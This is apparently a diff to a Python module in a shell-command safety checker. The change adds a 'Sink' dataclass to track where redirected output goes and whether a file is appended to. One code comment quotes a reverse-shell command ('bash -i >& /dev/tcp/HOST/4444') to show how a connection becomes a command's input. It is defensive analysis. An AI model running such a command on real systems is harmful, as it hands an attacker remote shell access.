@@ -1,6 +1,7 @@
 """Redirections: where a command's input comes from and which files its output goes to."""
 
 import re
+from dataclasses import dataclass
 
 from cli_guard.commands.effects.paths import path_of, read_path, write_path
 from cli_guard.commands.effects.places import PathClass, classify_path
@@ -8,6 +9,7 @@ from cli_guard.commands.expand.fields import Field, literal, stream_of
 from cli_guard.commands.model import EffectKind
 from cli_guard.commands.parse.tree import Redirect
 from cli_guard.commands.scope import (
+    ANYTHING,
     NOTHING,
     REMOTE_DATA,
     TOKEN,
@@ -20,7 +22,18 @@ DESCRIPTOR = re.compile(r"(\d*)-?")
 STANDARD = ("", "0", "1", "2", "&")
 OUTPUT = ("", "1", "&")
 FROM_NETWORK = REMOTE_DATA
-Sinks = list[tuple[str, Field]]
+
+
+@dataclass(frozen=True)
+class Sink:
+    """A file that the output of one descriptor goes to, which is emptied first unless it is added to."""
+
+    descriptor: str
+    target: Field
+    appends: bool = False
+
+
+Sinks = list[Sink]
 
 
 def apply_redirects(
@@ -47,13 +60,15 @@ def apply_redirects(
                 # `true | bash -i >& /dev/tcp/HOST/4444 0>&1`: the input is the connection, whatever the pipe holds.
                 stdin = FROM_NETWORK
             if opened and redirect.operator == ">&":
-                sinks.append((redirect.descriptor, literal(opened, redirect.span)))
+                sinks.append(
+                    Sink(redirect.descriptor, literal(opened, redirect.span), True)
+                )
             elif (
                 redirect.operator == ">&"
                 and redirect.descriptor in OUTPUT
                 and number[1] == "2"
             ):
-                sinks.append(("", literal("/dev/stderr", redirect.span)))
+                sinks.append(Sink("", literal("/dev/stderr", redirect.span)))
             elif opened:
                 stdin = read_path(shell, literal(opened, redirect.span), redirect.span)
         elif redirect.operator == "<" and target.stream is not None:
@@ -64,38 +79,40 @@ def apply_redirects(
             if redirect.operator in ("<", "<&"):
                 stdin = read_path(shell, target, redirect.span)
             else:
-                if redirect.operator.endswith(">>"):
+                adds = ">>" in redirect.operator
+                if adds:
                     shell.extend_file(path_of(shell, target))
-                sinks.append((redirect.descriptor, target))
+                sinks.append(Sink(redirect.descriptor, target, adds))
     return stdin, sinks
 
 
 def may_not_open(redirects: tuple[Redirect, ...], sinks: Sinks) -> bool:
     """Return whether a file among the redirections may be missing or not writable."""
-    opens = any(not target.start.startswith("/dev/") for _, target in sinks)
+    opens = any(not each.target.start.startswith("/dev/") for each in sinks)
     return opens or any(redirect.operator == "<" for redirect in redirects)
 
 
 def is_connected(shell: Shell, sinks: Sinks) -> bool:
     """Return whether the output goes to a connection; usually the input then comes from there too."""
     return any(
-        classify_path(path_of(shell, target)) is PathClass.SOCKET
-        for _, target in sinks
-        if target.start[:5] == "/dev/"
+        classify_path(path_of(shell, each.target)) is PathClass.SOCKET
+        for each in sinks
+        if each.target.start[:5] == "/dev/"
     )
 
 
 def write_sinks(shell: Shell, output: Stream, sinks: Sinks) -> Stream:
     """Write the output to its files; return what is left for the pipe."""
-    for descriptor, target in sinks:
-        carried = output if descriptor in OUTPUT else NOTHING
+    for sink in sinks:
+        target = sink.target
+        carried = output if sink.descriptor in OUTPUT else ANYTHING
         if target.script is not None:
             shell.run_script(target.script, carried)
             continue
         # A dash is the name of a file here.
         named = literal("./-", target.span, like=target) if target.text == "-" else target
-        write_path(shell, named, target.span, carried)
-    taken = [target for descriptor, target in sinks if descriptor in OUTPUT]
+        write_path(shell, named, target.span, carried, appends=sink.appends)
+    taken = [each.target for each in sinks if each.descriptor in OUTPUT]
     if any(target.start.startswith(("/dev/", "/proc/")) for target in taken):
         # `>/dev/stdout` is the pipe, and `>&2` may be.
         return make_doubtful(output)
